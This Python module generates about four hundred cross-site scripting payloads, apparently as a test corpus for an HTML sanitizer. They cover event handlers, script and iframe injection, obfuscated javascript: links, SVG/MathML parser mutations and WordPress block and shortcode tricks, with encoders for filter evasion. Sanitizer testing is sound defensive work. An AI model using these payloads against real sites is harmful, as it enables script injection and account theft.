"""Some four hundred ways to make a page run a stranger's script, by families.

One a line. ``RUN`` stands for a script that tells its number, ``⏎`` for a new line, ``LEAD`` for an address that is only
asked when a page is led there, ``⟦way:text⟧`` for the text written in another way.
A vector that begins with ``~`` ran in browsers of its time only, or needs a hand that
tests have not; today's Chromium leaves it alone even without our cleaning.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

CODERS: dict[str, Callable[[str], str]] = {
    "decimal": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "padded": lambda text: "".join(f"&#{ord(c):07};" for c in text),
    "hex": lambda text: "".join(f"&#x{ord(c):x};" for c in text),
    "HEX": lambda text: "".join(f"&#X{ord(c):04X};" for c in text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "percent": lambda text: "".join(f"%{ord(c):02X}" for c in text),
    "unicode": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "quoted": quote,
    "codes": lambda text: ",".join(str(ord(c)) for c in text),
    "wide": lambda text: "".join(chr(ord(c) + 0xFEE0) for c in text),
}
_CODED = re.compile(r"⟦(\w+):(.*?)⟧", re.DOTALL)


def _words(text: str) -> list[str]:
    return text.split()


TAGS = _words(
    "a abbr acronym address applet article aside b bdo big blink blockquote button center "
    "cite code dd del details dfn dialog dir div dl dt em fieldset figcaption figure font "
    "footer form h1 header hgroup i img input ins kbd label layer legend li listing main "
    "map mark marquee menu meter multicol nav nobr ol option output p picture pre progress "
    "q ruby s samp section select small span strike strong sub summary sup table textarea "
    "tt u ul var wbr xmp x-y keygen isindex image video audio object embed"
)
EVENTS = _words(
    "onclick ondblclick onmousedown onmouseup onmouseover onmouseenter onmousemove "
    "onmouseout onmouseleave onwheel oncontextmenu onauxclick onpointerdown onpointerup "
    "onpointerover onpointerenter onpointermove onpointerout onpointerleave "
    "onpointercancel ongotpointercapture onlostpointercapture ontouchstart ontouchend "
    "ontouchmove ontouchcancel onkeydown onkeyup onkeypress onfocus onblur onfocusin "
    "onfocusout onchange oninput onbeforeinput oninvalid onreset onselect onselectstart "
    "onsubmit onformdata oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste "
    "ondrag ondragstart ondragend ondragenter ondragleave ondragover ondrop onscroll "
    "onscrollend onanimationstart onanimationend onanimationiteration onanimationcancel "
    "ontoggle onbeforetoggle onload onerror onabort oncanplay oncuechange ondurationchange onended "
    "onplay onplaying onprogress onseeked onvolumechange onwaiting onclose oncancel "
    "onsecuritypolicyviolation onslotchange"
)

HANDLERS = [
    *(f"<{tag} onclick=RUN>x</{tag}>" for tag in TAGS),
    *(f"<div tabindex=0 {event}=RUN>x</div>" for event in EVENTS),
]
AT_ONCE = """\
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<sCrIpT>RUN</ScRiPt>
<script type=text/javascript>RUN</script>
<script type=module>RUN</script>
<script type="">RUN</script>
<script language=javascript>RUN</script>
<script/x>RUN</script>
<script x>RUN</script >
<script⏎>RUN</script⏎>
<script\t>RUN</script>
<script\x0c>RUN</script>
~<script>RUN//
~<script>RUN</script/x y="
<script src=LEAD></script>
<SCRIPT SRC="LEAD"></SCRIPT>
<script src="LEAD" type=module></script>
<script/src=LEAD></script>
<script src=data:text/javascript,RUN></script>
<script src=data:text/javascript;base64,⟦base64:RUN⟧></script>
<script src=data:,RUN></script>
<script>import('data:text/javascript,RUN')</script>
<script>eval(atob('⟦base64:RUN⟧'))</script>
<script>eval(String.fromCharCode(⟦codes:RUN⟧))</script>
<script>⟦unicode:alert⟧(NUMBER)</script>
<script>setTimeout('RUN')</script>
<script>[NUMBER].forEach(alert)</script>
<script>alert`NUMBER`</script>
<script>onerror=alert;throw 'NUMBER'</script>
<script>Function('RUN')()</script>
<script>(()=>{RUN})()</script>
<script><!--⏎RUN⏎--></script>
<script>/*</script>*/<script>RUN</script>
<<script>RUN</script>
~<script<script>RUN</script>
~<scr<script>ipt>RUN</scr</script>ipt>
~<script>'<!--<script>'</script>RUN//</script>
<script>RUN</script><plaintext>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="⟦decimal:<script>RUN</script>⟧"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
<iframe src=javascript:RUN></iframe>
<iframe src="  java&#9;script:RUN"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe src=data:text/html;base64,⟦base64:<script>RUN</script>⟧></iframe>
<iframe src=LEAD></iframe>
<iframe onload=RUN></iframe>
<iframe srcdoc=x onload=RUN></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
<object data=data:text/html;base64,⟦base64:<script>RUN</script>⟧></object>
<object data=LEAD></object>
~<embed src="data:text/html,<script>RUN</script>">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>">
<embed src=LEAD>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"></object>
<img src=x onerror=RUN>
<IMG SRC=x ONERROR=RUN>
<iMg SrC=x OnErRoR=RUN>
<img/src="x"/onerror=RUN>
<img src=x onerror⏎=⏎RUN>
<img\tsrc=x\tonerror=RUN>
<img\x0csrc=x\x0conerror=RUN>
<img src='x'onerror='RUN'>
<img src="x"onerror="RUN">
<img ""\"><script>RUN</script>">
<img src=x onerror=⟦decimal:RUN⟧>
<img src=x onerror=⟦padded:RUN⟧>
<img src=x onerror=⟦hex:RUN⟧>
<img src=x onerror=⟦HEX:RUN⟧>
<img src=x onerror="RUN"
<img src=x:x onerror&#61;x onerror=RUN>
<img src=x alt=` onerror=RUN>
<img src=`x`onerror=RUN onerror=RUN>
<img =x src=x onerror=RUN>
~<img src=x '="' onerror=RUN>
~<img src=x "=">" onerror=RUN>
~<img title='>' src=x onerror=RUN>
<img src=x onerror=RUN//>
<img src=x onerror="&#0000000097;lert(NUMBER)">
<img src=x onerror="window['al'+'ert'](NUMBER)">
~<img src=x onerror="alert(/*</p>*/NUMBER)">
<image src=x onerror=RUN>
<image xlink:href=x src=x onerror=RUN>
<img srcset=x onerror=RUN>
<img srcset="x, y 2x" onerror=RUN>
<img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=RUN>
<picture><source srcset=x><img src=x onerror=RUN></picture>
<input type=image src=x onerror=RUN>
<input autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<keygen autofocus tabindex=0 onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<a href=# autofocus onfocus=RUN>x</a>
<div contenteditable autofocus onfocus=RUN>x</div>
<x tabindex=1 autofocus onfocus=RUN>x</x>
<video src=x onerror=RUN></video>
<video onerror=RUN><source src=x></video>
<video><source onerror=RUN src=x></video>
<video poster=x onloadstart=RUN src=x></video>
<audio src=x onerror=RUN></audio>
<audio onloadstart=RUN src=x></audio>
<audio autoplay src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA= oncanplay=RUN onerror=RUN></audio>
<track onerror=RUN onclick=RUN>
<details open ontoggle=RUN>x</details>
<details ontoggle=RUN><summary>x</summary>y</details>
~<marquee onstart=RUN>x</marquee>
~<marquee loop=1 width=0 onfinish=RUN onstart=RUN>x</marquee>
<body onload=RUN>
<body onpageshow=RUN>
<body onhashchange=RUN onclick=RUN>
<body onfocus=RUN onresize=RUN onclick=RUN>
<html onclick=RUN>
<head onclick=RUN><body onmouseover=RUN>
<link rel=stylesheet href=LEAD onload=RUN>
<link rel=stylesheet href=data:text/css,x onload=RUN>
<link rel=prefetch href=x onerror=RUN onload=RUN onclick=RUN>
<link rel=import href=x onclick=RUN>
<style onload=RUN></style>
<style>@import 'LEAD';</style>
<style>*{background:url(LEAD)}</style>
<p style="background:url(LEAD)">x</p>
<meta http-equiv=refresh content="0;url=LEAD">
<META HTTP-EQUIV="Refresh" CONTENT="0; URL='LEAD'">
<base href=LEAD/><script src=x></script>
<form><button formaction=javascript:RUN>x</button></form>
<form action=javascript:RUN><input type=submit></form>
<form id=f></form><button form=f formaction=javascript:RUN>x</button>
<form><input type=image formaction=javascript:RUN src=x></form>
<form onsubmit=RUN><input type=submit></form>
<form oninvalid=RUN onclick=RUN><input required><input type=submit></form>
<form><isindex formaction=javascript:RUN onclick=RUN></form>
<object onerror=RUN data=x></object>
<dialog open onclose=RUN onclick=RUN><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p>x</button>
<div style="animation:x 1s" onanimationstart=RUN>x</div><style>@keyframes x{}</style>
<p style=transition:color,1s onmouseover=RUN>x</p>
~<div hidden=until-found onbeforematch=RUN>x</div>
<template shadowrootmode=open><script>RUN</script></template>
<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
<portal src=LEAD onclick=RUN>x</portal>
<fencedframe src=LEAD onclick=RUN>x</fencedframe>
~<frameset onload=RUN><frame src=javascript:RUN></frameset>
~<script src=LEAD type=text/vbscript></script>
<script for=window event=onload>RUN</script>
~<bgsound src=javascript:RUN>
~<layer src=LEAD></layer>
~<xml id=i><x><c><![CDATA[<img src=x onerror=RUN>]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>
~<?xml-stylesheet href=javascript:RUN?>
~<link rel=stylesheet href=javascript:RUN>
~<meta http-equiv=refresh content="0;url=javascript:RUN">
~<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
~<meta http-equiv=set-cookie content="x=<script>RUN</script>">
~<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-
~<base href=javascript:RUN//><a href=x>y</a>
~<img dynsrc=javascript:RUN lowsrc=javascript:RUN>
~<img src=javascript:RUN>
~<img src=⟦decimal:javascript:RUN⟧>
~<input type=image src=javascript:RUN>
~<body background=javascript:RUN>
~<table background=javascript:RUN><tr><td background=javascript:RUN>x</table>
~<div style="width:expression(RUN)">x</div>
~<div style="behavior:url(LEAD)">x</div>
~<div style="-moz-binding:url(LEAD#x)">x</div>
~<div style="background-image:url(javascript:RUN)">x</div>
~<style>@import 'javascript:RUN';</style>
~<style>li{list-style-image:url(javascript:RUN)}</style><ul><li>x</ul>
~<p style="x:\\65xpression(RUN)">x</p>
~<applet code=x archive=LEAD></applet>
~<object classid=clsid:x codebase=javascript:RUN></object>
~<embed src=javascript:RUN>
~<embed src=x.swf allowscriptaccess=always flashvars=javascript:RUN>
~<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
~<!--[if IE]><script>RUN</script><![endif]-->
~<![if true]><img src=x title="><x onerror=RUN>"><![endif]>
~<comment><img src="</comment><img src=x onclick=RUN>"></comment>
~<div data-wp-interactive=x data-wp-on--click=RUN data-wp-init=RUN>x</div>
~<html manifest=LEAD>
~＜script＞RUN＜/script＞
~⟦wide:<script>⟧RUN⟦wide:</script>⟧
~⟦percent:<script>RUN</script>⟧
~\\u003cscript\\u003eRUN\\u003c/script\\u003e
~&lt;script&gt;RUN&lt;/script&gt;
~&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
~\ufdd1script\ufdd2RUN\ufdd1/script\ufdd2
~\ufdd1img src=x onerror=RUN\ufdd2
~\0<\0s\0c\0r\0i\0p\0t\0>RUN</script>
~<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x"/></svg>
~<a href=data:text/html,<script>RUN</script>>x</a>
~<a href=data:text/html;base64,⟦base64:<script>RUN</script>⟧>x</a>
~<a href="feed:javascript:RUN">x</a>
~<a href="view-source:javascript:RUN">x</a>
~<a href="vbscript:RUN">x</a>
~<a href="mocha:RUN">x</a>
~<a href="livescript:RUN">x</a>
~<a href="jar:LEAD!/x">x</a>
~<a href="blob:LEAD">x</a>
~<a href="&{RUN};">x</a>
"""
LINKS = """\
javascript:RUN
JAVASCRIPT:RUN
JaVaScRiPt:RUN
 javascript:RUN
\tjavascript:RUN
\x01javascript:RUN
\x1fjavascript:RUN
&#1;javascript:RUN
&#14; javascript:RUN
&#32;javascript:RUN
java\tscript:RUN
java&#9;script:RUN
java&#x0A;script:RUN
java&#x0D;script:RUN
java&Tab;script:RUN
java&NewLine;script:RUN
javascript&colon;RUN
javascript&#58;RUN
~javascript&#x3a;RUN
javascript\t:RUN
javascript&#10;:RUN
&#106;avascript:RUN
&#x6A;avascript:RUN
~⟦decimal:javascript:RUN⟧
⟦padded:javascript:RUN⟧
⟦hex:javascript:RUN⟧
⟦HEX:javascript:⟧RUN
j&#97;v&#x61;script:RUN
javascript:⟦percent:RUN⟧
javascript:⟦unicode:alert⟧(NUMBER)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+RUN//'>
javascript://example.com/%0ARUN
javascript://%0aRUN
javascript:void(RUN)
javascript:RUN;//http://example.com/
javascript:http://example.com/%0ARUN
javascript:eval(atob('⟦base64:RUN⟧'))
j⏎a⏎v⏎a⏎script:RUN
jav&#x0A;ascript:RUN
  \t java&#10;script&#9;:RUN
javascript:RUN//?.jpg
"""
MUTATIONS = """\
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script>⟦decimal:RUN⟧</script></svg>
~<svg><script>/*<p>*/RUN</script>
<svg><script href=data:text/javascript,RUN /></svg>
<svg><script xlink:href=LEAD></script></svg>
<svg><a href=javascript:RUN><text y=20>x</text></a></svg>
<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=y>
<svg><animatetransform onbegin=RUN attributeName=transform dur=1s>
<svg><image href=x onerror=RUN>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style><!--</style><img title="--><img src=x onerror=RUN>">
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
~<svg><p><style><img src=x onerror=RUN></style></p>
~<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
~<svg><discard onbegin=RUN>
<svg><g onclick=RUN><circle r=9 /></g></svg>
<svg><br><script>RUN</script>
<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style><img src=x onerror=RUN>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><mi><script>RUN</script></mi></math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>RUN</script></annotation-xml></math>
<math><style><img src=x onerror=RUN></style></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"><img src=x onerror=RUN>
~<math href=javascript:RUN>x</math>
<math><mrow href=javascript:RUN onclick=RUN>x</mrow></math>
<math><maction actiontype=statusline xlink:href=javascript:RUN onclick=RUN>x</maction></math>
~<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RUN>">
~<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
~<math><mi></p><table><mglyph><style><img src=x onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<iframe><p title="</iframe><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<style><p title="</style><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<script><p title="</script><img src=x onerror=RUN>">
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</noscript><script>RUN</script>
</script><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
?><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
</p></div></article></body></html><script>RUN</script>
<!--><script>RUN</script>-->
<!---><script>RUN</script>-->
<!--x--!><script>RUN</script>-->
~<!--x--!⏎><script>RUN</script>
<!-- x -- ><!-- --><script>RUN</script>
<!x><script>RUN</script>
<!DOCTYPE x [<!ENTITY y "z">]><script>RUN</script>
<![CDATA[><script>RUN</script>]]>
<?x ><script>RUN</script>
<?php echo 1; ?><script>RUN</script>
</ x><script>RUN</script>
</><script>RUN</script>
<%x%><script>RUN</script>
<x<y><script>RUN</script>
<a<b onclick=RUN>x
<p id="<"><script>RUN</script>
<table><script>RUN</script></table>
<table><img src=x onerror=RUN></table>
<table><td><svg><td><style><img src=x onerror=RUN></style>
<table><colgroup><img src=x onerror=RUN>
<table><caption><svg><script>RUN</script></table>
<select><script>RUN</script></select>
~<select><option><style></option></select><img src=x onerror=RUN></style>
<a href=x><a onclick=RUN>x</a></a>
<b><p><i></b><img src=x onerror=RUN></i>
<font><p><a></font><script>RUN</script>
<nobr><nobr onclick=RUN>x
<button><p><button onclick=RUN>x
<h1><h2 onclick=RUN>x</h1>
<li><p><li onclick=RUN>x
<ruby><rt><rp onclick=RUN>x
<dl><dt><dd onclick=RUN>x
<form onclick=RUN><form>x<input type=submit></form>
<p title="&quot;><script>RUN</script>"><script>RUN</script>
~<img alt="<x" title="/><img src=x onerror=RUN>"><img src=x onerror=RUN>
<abbr title='"><script>RUN</script>' onclick=RUN>x</abbr>
<a name='x"onclick=RUN' href='#x"onclick=RUN' onclick=RUN>y</a>
<a href='http://127.0.0.1/"onclick="RUN' onclick=RUN>x</a>
<img src='x"onerror="RUN' onerror=RUN>
<p style='text-align:center"onclick="RUN' onclick=RUN>x</p>
<td colspan='2"onclick="RUN' onclick=RUN>x</td><b onclick=RUN>x</b>
<ol start='1"onclick="RUN' onclick=RUN><li onclick=RUN>x</ol>
<p onclick=RUN onclick=x class=x id=x>y</p>
<div id=x onclick=RUN<p>y</div>
<b onclick="RUN" <i>x</b>
<p/onclick=RUN/x>y</p>
<p\x0bx onclick=RUN>y</p>
<p x='\0' onclick=RUN>y</p>
<p \ufeffonclick=x onclick=RUN>y</p>
<template><p title="</template><img src=x onerror=RUN>"></p></template><img src=x onerror=RUN>
<object><param name=src value=javascript:RUN><p onclick=RUN>x</object>
<video><p title="</video><img src=x onerror=RUN>"><img src=x onerror=RUN></video>
<img src=LEAD.png/emoticons/smile.gif alt='<img src=x onerror=RUN>' onerror=RUN>
<img src=http://127.0.0.1/emoticons/"onclick=RUN/x.gif onerror=RUN>
<!-- wp:html --><script>RUN</script><!-- /wp:html -->
<!-- wp:html {"content":"--><script>RUN</script><!--"} /-->
<!-- wp:paragraph --><p onclick=RUN>x</p><!-- /wp:paragraph -->
<!-- wp:image {"href":"javascript:RUN"} --><figure><a href="javascript:RUN">x</a></figure><!-- /wp:image -->
<!-- wp:freeform --><img src=x onerror=RUN><!-- /wp:freeform -->
<!-- wp:button --><a href=javascript:RUN>x</a><!-- /wp:button -->
<!-- wp:group {"tagName":"script"} --><script>RUN</script><!-- /wp:group -->
<!--more <script>RUN</script>--><script>RUN</script>
<!--nextpage--><script>RUN</script>
<!-- moving-day:x --><script>RUN</script>
[caption width=1 caption="<script>RUN</script>"]<img src=x onerror=RUN>[/caption]
[caption]<a href=javascript:RUN>x</a>[/caption]
[audio src="x" onclick="<script>RUN</script>"]<script>RUN</script>
[embed]javascript:RUN[/embed]<img src=x onerror=RUN>
<a href="[x]" title="[caption code='"]" onclick=RUN>x</a>
<img alt="[gallery]" src=x onerror=RUN>
~[gallery ids="1" itemtag="script>RUN</script"]
~[playlist type="audio" style="<script>RUN</script>"]
~[video src="javascript:RUN"]
~<!-- wp:shortcode -->[caption]RUN[/caption]<!-- /wp:shortcode -->
~<!-- wp:archives {"className":"\\u0022 onclick=\\u0022RUN"} /-->
~<!-- wp:latest-posts {"linkTarget":"x onclick=RUN"} /-->
~<!-- wp:navigation-link {"url":"javascript:RUN","label":"x"} /-->
~<!-- wp:social-link {"url":"javascript:RUN","service":"x"} /-->
"""


@dataclass(frozen=True, slots=True)
class Vector:
    """``live``: today's Chromium runs it when nothing stops it."""

    family: str
    template: str
    live: bool

    def text(self, number: int, listener: str) -> str:
        """What is sent. The script says ``number``; ``listener``: an address to lead to."""
        text = self.template.replace("RUN", f"alert({number})")
        text = text.replace("NUMBER", str(number)).replace(
            "LEAD", f"{listener}/{number}"
        )
        return _CODED.sub(lambda coded: CODERS[coded[1]](coded[2]), text)


def vectors() -> list[Vector]:
    """All of them, each once."""
    links = [link.replace('"', "&quot;") for link in _lines(LINKS)]
    families = {
        "handler": HANDLERS,
        "at once": _lines(AT_ONCE),
        "link": [_linked(link) for link in links],
        "mutation": _lines(MUTATIONS),
    }
    return [
        Vector(family, template.removeprefix("~"), not template.startswith("~"))
        for family, templates in families.items()
        for template in templates
    ]


def _linked(link: str) -> str:
    sign = "~" if link.startswith("~") else ""
    return f'{sign}<a href="{link.removeprefix("~")}">x</a>'


def _lines(text: str) -> list[str]:
    return [line.replace("⏎", "\n") for line in text.strip("\n").split("\n")]
